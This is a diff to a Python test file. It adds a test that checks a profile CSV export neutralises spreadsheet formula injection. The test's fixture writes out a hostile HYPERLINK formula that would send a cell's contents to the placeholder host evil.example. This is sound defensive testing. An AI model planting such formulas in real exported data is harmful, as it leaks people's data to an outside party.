@@ -338,3 +338,10 @@ def test_the_profile_chooser_shows_editors_only_people_they_may_see_and_staff_ev
 
     client.force_login(UserFactory(username="staf2", is_staff=True, is_superuser=True))
     assert "Rahasia Penyunting" in client.get(reverse(f"{chooser}:choose_results"), {"q": "Rahasia"}).content.decode()
+
+
+def test_the_profile_export_defuses_spreadsheet_formulas(client, staff):
+    ProfileFactory(full_name='=HYPERLINK("https://evil.example/?"&D3)', bio="biasa")
+    rows = csv_rows(export(client))
+    assert [row for row in rows if row and any(value.startswith("'=HYPERLINK") for value in row.values())]
+    assert not [row for row in rows if any(value.startswith("=") for value in row.values())]
